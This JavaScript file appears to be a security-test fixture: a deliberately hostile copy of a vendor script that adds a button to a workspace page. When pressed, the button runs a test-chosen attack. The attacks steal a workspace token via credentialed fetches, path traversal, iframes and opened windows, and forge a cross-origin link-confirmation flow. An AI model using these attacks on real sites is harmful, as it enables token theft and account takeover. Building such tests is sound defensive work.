// A hostile version of a vendor's script. When somebody presses its button in a workspace's page, it tries the attack
// that the test has chosen.
(function () {
  "use strict";

  const TRIES = 40;
  const wanted = JSON.parse(WANTED);
  const pause = () => new Promise((done) => window.setTimeout(done, 50));
  const filled = (fields) => ({ method: "POST", credentials: "include", body: new URLSearchParams(fields) });
  const marks = (seen) => [seen.body.dataset.mark, ...[...seen.querySelectorAll("[name=form]")].map((one) => one.value)];

  async function read(url, options) {
    const answer = await fetch(url, { credentials: "include", ...options });
    return new DOMParser().parseFromString(await answer.text(), "text/html");
  }

  // Return the first result. If one way fails, try the next.
  async function first(...ways) {
    for (const way of ways) {
      const found = await way().catch(() => null);
      if (found) return found;
    }
    return null;
  }

  // Wait until one of Usher's pages, in a frame or another window, can be read.
  async function within(place, look) {
    for (let tries = 0; tries < TRIES; tries++) {
      let found = null;
      try {
        found = look(place());
      } catch {
        // The page isn't loaded yet, or the browser doesn't let this script read it.
      }
      if (found) return found;
      await pause();
    }
    return null;
  }

  function framed(url) {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.src = url;
    return () => frame.contentDocument;
  }

  function opened(url) {
    const other = window.open(url);
    return () => other.document;
  }

  function aimed(inside, around) {
    return [inside, around].flatMap((origin) => [origin, `${wanted.page}/..%2f..`].map((at) => at + wanted.other));
  }

  async function entryAt(url) {
    const known = await first(async () => marks(await read(url)), async () => []);
    for (const mark of [...known, ...marks(document)].filter(Boolean)) {
      const headers = { "X-Usher-Mark": mark };
      const found = await first(
        async () => (await (await fetch(url + "/entry?late=1", { ...filled({}), headers })).json()).token,
        async () => marks(await read(url, filled({ form: mark }))).find((one) => one && !marks(document).includes(one)),
      );
      if (found) return found;
    }
    return null;
  }

  const token = (seen) => seen.querySelector("#frame").dataset.workspaceToken;

  const ATTACKS = {
    entry: () => first(
      ...aimed(location.origin, wanted.main).map((url) => () => entryAt(url)),
      () => within(framed(wanted.main + wanted.other), token),
      () => within(opened(wanted.main + wanted.other), token),
      () => within(opened(location.origin + wanted.other), token),
    ),
    async requests() {
      const asked = (await read(wanted.main + "/link")).querySelector("form[action='/link/check'] [name=form]").value;
      const seen = await read(wanted.main + "/link/check", filled({ form: asked, token: wanted.token }));
      const fields = Object.fromEntries(new FormData(seen.querySelector("form[action='/link/confirm']")));
      return (await read(wanted.main + "/link/confirm", filled(fields))).body.innerText;
    },
    async window() {
      const place = await first(
        () => within(framed(wanted.main + "/link"), (seen) => seen.querySelector("#token") && (() => seen)),
        async () => {
          const there = opened(wanted.main + "/link");
          return (await within(there, (seen) => seen.querySelector("#token"))) && there;
        },
      );
      place().querySelector("#token").value = wanted.token;
      place().querySelector("form[action='/link/check']").submit();
      await within(place, (seen) => {
        const form = seen.querySelector("form[action='/link/confirm']");
        if (form) form.submit();
        return form;
      });
      return within(place, (seen) => seen.querySelector(".good").innerText);
    },
  };

  const SE = (window.SE = window.SE || []);
  SE.workspace = function () {
    const button = document.getElementById("frame").appendChild(document.createElement("button"));
    button.id = "prize";
    button.textContent = "Press me";
    button.addEventListener("click", async () => {
      // The test reads the result.
      window.loot = (await first(ATTACKS[wanted.attack])) || "";
      button.textContent = "That was all";
    });
  };
})();
